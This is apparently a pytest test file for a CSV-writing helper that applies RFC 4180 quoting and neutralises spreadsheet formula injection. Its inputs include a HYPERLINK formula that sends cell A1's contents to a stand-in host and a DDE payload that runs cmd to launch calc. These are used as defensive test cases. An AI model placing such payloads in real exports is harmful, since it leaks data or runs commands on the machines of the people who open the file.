"""Every CSV this service writes: RFC 4180 quoting, spreadsheet formulas neutralised."""

import csv
import io

import pytest

from app.csvcells import csv_cell, csv_line


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+48 600", "'+48 600"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\r=1", '"\'\r=1"'),
        (
            '=hyperlink("http://e.example/?"&a1,"x")@x.com',
            '"\'=hyperlink(""http://e.example/?""&a1,""x"")@x.com"',
        ),
        ("a=b", "a=b"),
        ("plain", "plain"),
        ("a,b", '"a,b"'),
        ('say "hi"', '"say ""hi"""'),
        ("two\nlines", '"two\nlines"'),
        ("", ""),
        (None, ""),
        (-5, "-5"),  # a number is no formula
        (12, "12"),
    ],
)
def test_cell(value, written):
    assert csv_cell(value) == written


def test_a_line_reads_back_as_text_that_no_spreadsheet_runs():
    values = ["=cmd|' /C calc'!A0", "-1+2", "ok, fine", 'q"uote', 7]
    line = csv_line(values)
    assert line.endswith("\r\n")
    (row,) = list(csv.reader(io.StringIO(line)))
    assert row == ["'=cmd|' /C calc'!A0", "'-1+2", "ok, fine", 'q"uote', "7"]
